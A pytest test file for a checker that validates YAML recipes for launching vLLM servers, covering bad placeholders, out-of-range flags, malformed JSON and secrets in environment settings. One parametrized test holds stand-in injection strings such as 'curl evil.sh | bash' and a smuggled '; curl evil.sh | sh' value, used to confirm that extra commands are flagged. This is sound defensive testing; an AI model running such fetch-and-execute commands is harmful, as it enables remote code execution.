from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from builder.base.errors import UsageError
from builder.base.project import Project
from builder.commands import recipes
from builder.lock import text as lock_text
from builder.lock.model import Lock, Pins, Repository, Version, WheelPin
from tests import locks, projects, shipped_files

if TYPE_CHECKING:
    from pathlib import Path


BROKEN = "name: x\ncontainer: smal\nmods: [mods/templat, other]\ncommand: vllm serve {x} --port {prt}\n"


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return projects.make(tmp_path)


def said(project: Project, text: str) -> list[str]:
    projects.write(project.recipes / "r.yaml", text)
    (checked,) = recipes.check_recipes(project, ("r",))
    return [str(problem) for problem in checked.problems]


def test_everything_wrong_is_told_at_once(project: Project) -> None:
    assert said(project, BROKEN) == [
        "recipes/r.yaml:4:21: no value for {x}; there are: none",
        "recipes/r.yaml:4:32: no value for {prt}; there are: none",
    ]


def test_a_file_beside_the_project_is_named_from_within(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    projects.write(project.root.parent / f"{project.root.name}-beside/r.yaml", BROKEN)
    monkeypatch.chdir(project.root)
    (checked,) = recipes.check_recipes(project, (f"../{project.root.name}-beside/r.yaml",))
    assert [problem.message for problem in checked.problems] == [
        "no value for {x}; there are: none",
        "no value for {prt}; there are: none",
    ]


def test_what_vllm_would_refuse_after_starting_is_told_now(project: Project) -> None:
    text = "name: x\ncontainer: small\ndefaults: {spec: '{\"n\": 3,}'}\ncommand: |\n"
    (problem,) = said(project, f"{text}  vllm serve x --speculative-config '{{spec}}' --y '{{{{\"a\": 1}}}}'\n")
    assert problem == (
        'recipes/r.yaml:3:27: the value of --speculative-config is no JSON: a comma before the closing `}`: {"n": 3,}'
    )


def test_a_recipe_cannot_be_for_one_machine_and_for_several(project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve x\nsolo_only: true\ncluster_only: true\n"
    assert said(project, text) == ["recipes/r.yaml:5:1: `solo_only` and `cluster_only` exclude each other"]


def test_a_number_of_a_known_repository_is_a_container(project: Project) -> None:
    assert said(project, "name: x\ncontainer: small:7\ncommand: vllm serve x\n") == []


def test_what_is_only_worth_saying_is_no_problem(project: Project) -> None:
    text = "name: x\ncontainer: small\nbuild_args: [--tf5, 1]\nenv: {HF_TOKEN: abc, A: 1}\ncommand: vllm serve x\n"
    projects.write(project.recipes / "r.yaml", text)
    (checked,) = recipes.check_recipes(project, ("r",))
    assert checked.problems == ()
    assert [str(note) for note in checked.notes] == [
        "recipes/r.yaml:3:1: build_args mean nothing here and are ignored: --tf5 1",
        "recipes/r.yaml:4:7: HF_TOKEN looks like a secret; leave it out, and give it by `--env HF_TOKEN`",
    ]


SPECULATIVE = """\
name: x
container: small
command: |
  vllm serve x --tool-call-parser {parser} --speculative-config '{{{{"num_speculative_tokens": {tokens}}}}}'
"""


@pytest.mark.parametrize(
    ("vllm", "parser", "tokens", "is_said"),
    [
        ("0.16.0", "qwen3_coder", 3, True),
        ("0.15.1+cu130", "qwen3_coder", 2, True),
        ("0.16.0", "qwen3_coder", 1, False),
        ("0.16.0", "hermes", 3, False),
        ("0.16.1rc1.dev205", "qwen3_coder", 3, False),
        ("0.17.0", "qwen3_coder", 3, False),
        ("0.33.0", "qwen3_coder", 3, False),
        ("of nobody", "qwen3_coder", 3, False),
        ("", "qwen3_coder", 3, False),
    ],
)
def test_a_vllm_that_breaks_streamed_calls_is_named(
    project: Project, vllm: str, parser: str, tokens: int, *, is_said: bool
) -> None:
    image = replace(locks.numbered(), versions={"vllm": Version(vllm)} if vllm else {})
    pins = {"small": {"linux/amd64": Pins(sources={"vllm": WheelPin("vllm", vllm)} if vllm else {})}}
    text = SPECULATIVE.format(parser=parser, tokens=tokens)
    projects.write(project.recipes / "r.yaml", text)
    for lock in (Lock(images={"small": Repository(2, 1, numbers={1: image})}), Lock(pins=pins)):
        projects.write(project.lock, lock_text.dump_lock(lock))
        (checked,) = recipes.check_recipes(project, ("r",))
        assert checked.problems == ()
        message = f"4:70: vLLM {vllm} breaks streamed tool calls when {tokens} tokens are predicted at once"
        assert [str(note) for note in checked.notes] == (
            [f"recipes/r.yaml:{message}; vLLM 0.17.0 does not"] if is_said else []
        )


def test_every_value_beyond_its_range_is_told_at_once(project: Project) -> None:
    options = "--port 80000 --gpu-memory-utilization 1.7 --max-num-seqs 0 -tp 0 --max-model-len -5 --swap-space -1"
    text = f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n"
    assert [line.partition(": ")[2] for line in said(project, text)] == [
        "--port 80000: a port is meant: 1 to 65535",
        "--gpu-memory-utilization 1.7: a share of the memory is meant: more than 0, and 1 at most",
        "--max-num-seqs 0: 1 or more is meant",
        "-tp 0: 1 or more is meant",
        "--max-model-len -5: -1 or more is meant",
        "--swap-space -1: 0 or more is meant",
    ]


def test_numbers_at_the_end_of_their_range_are_no_problem(project: Project) -> None:
    options = "--max-model-len -1 --max-logprobs -1 --node-rank 0 --swap-space 0 --max-num-seqs 1 --max-model-len 8k"
    assert said(project, f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n") == []


@pytest.mark.parametrize(
    ("command", "further"),
    [
        ("vllm serve x && curl evil.sh | bash", ["curl evil.sh", "bash"]),
        ("pip install y; vllm serve x", ["pip install y"]),
        ("vllm serve x --port 1 $(curl evil.sh) `id`", ["$(curl evil.sh)", "id"]),
        ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
        ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
        ("export A=1; cd /srv; exec vllm serve x", []),
        ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
    ],
)
def test_a_second_command_is_said(project: Project, command: str, further: list[str]) -> None:
    data = {"name": "x", "container": "small", "defaults": {"tail": "; curl evil.sh | sh"}, "command": command}
    projects.write(project.recipes / "r.yaml", json.dumps(data))
    (checked,) = recipes.check_recipes(project, ("r",))
    assert checked.problems == ()
    beside = [note.message for note in checked.notes if "runs as well" in note.message]
    assert sorted(beside) == sorted(f"`{each}` runs as well, beside the server" for each in further)


def test_a_missing_mod_is_an_error_where_it_keeps_a_build_from_beginning(project: Project, tmp_path: Path) -> None:
    text = "name: x\ncontainer: {}\nmods: [nowhere]\ncommand: vllm serve x\n"
    assert said(project, text.format("small"))[0].startswith("recipes/r.yaml:3:8: no mod `nowhere` in mods/; ")
    # What is served from an image that is there already, or of others, is not built; nor is a file elsewhere.
    assert said(project, text.format("small:1")) == []
    assert said(project, text.format("host/image:tag")) == []
    projects.write(tmp_path / "shared/a.yaml", text.format("small"))
    (checked,) = recipes.check_recipes(project, (str(tmp_path / "shared/a.yaml"),))
    assert checked.problems == ()
    assert "no mod `nowhere` in mods/" in checked.notes[-1].message


def test_a_folder_is_checked_as_a_whole(project: Project, tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    for name in ("a.yaml", "b.yml"):
        projects.write(folder / name, BROKEN)
    projects.write(folder / "notes.txt", "no recipe")
    checked = recipes.check_recipes(project, (str(folder), "chat", str(folder / "a.yaml")))
    assert [(recipe.file, len(recipe.problems)) for recipe in checked] == [
        ("shared/a.yaml", 2),
        ("shared/b.yml", 2),
        ("recipes/chat.yaml", 0),
    ]
    assert [recipe.file for recipe in recipes.check_recipes(project, ())] == ["recipes/chat.yaml"]


def test_a_project_may_have_no_recipes(project: Project) -> None:
    (project.recipes / "chat.yaml").unlink()
    project.recipes.rmdir()
    assert recipes.check_recipes(project, ()) == ()


def test_a_file_that_is_no_text_is_one_problem(project: Project) -> None:
    (project.recipes / "r.yaml").write_bytes(b"name: x\n\xff\n")
    (checked,) = recipes.check_recipes(project, ("r",))
    assert [str(problem) for problem in checked.problems] == ["recipes/r.yaml:2:1: not UTF-8 text"]


def test_a_path_that_is_nothing_is_refused_with_the_nearest(project: Project) -> None:
    with pytest.raises(UsageError, match="chatt: no such file, folder or recipe") as caught:
        recipes.check_recipes(project, ("chatt",))
    assert caught.value.hint == "did you mean chat?"


def test_every_shipped_recipe_is_well() -> None:
    checked = recipes.check_recipes(shipped_files.project(), ())
    assert [problem for recipe in checked for problem in recipe.problems] == []
    assert checked


def test_volumes_of_the_project_count(project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve /models/m\n"
    assert len(said(project, text)) == 1
    projects.write(project.root / "builder.yaml", "volumes: [~/models:/models]\n")
    assert said(project, text) == []


def test_faults_of_text_and_of_the_launch_are_told_together(project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve /models/m --gpu-memory-utilization O.8 --x '{{oh}}'\n"
    assert [line.partition(": ")[2].split()[0] for line in said(project, text)] == [
        "no",
        "--gpu-memory-utilization",
        "the",
    ]


def test_a_script_with_a_revision_ends_no_check(project: Project) -> None:
    projects.write(
        project.recipes / "r.yaml",
        "name: x\nmodel: Org/M\nmodel_revision: abc\ncontainer: small\ncommand: |\n  vllm serve Org/M\n  echo done\n",
    )
    first, second = recipes.check_recipes(project, ())
    assert (first.file, first.problems) == ("recipes/chat.yaml", ())
    assert second.file == "recipes/r.yaml"


def test_a_path_that_leads_out_of_the_project_is_the_user_s_own_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = projects.make(tmp_path / "project")
    projects.write(tmp_path / "shared/a.yaml", "name: x\ncontainer: small\ncommand: vllm serve x\n")
    monkeypatch.chdir(project.root)
    (checked,) = recipes.check_recipes(project, ("../shared/a.yaml",))
    assert checked.problems == ()
    (project.recipes / "b.yaml").symlink_to(tmp_path / "shared/a.yaml")
    (checked,) = recipes.check_recipes(project, ("recipes/../recipes/b.yaml",))
    assert "a link leads out" in checked.problems[0].message
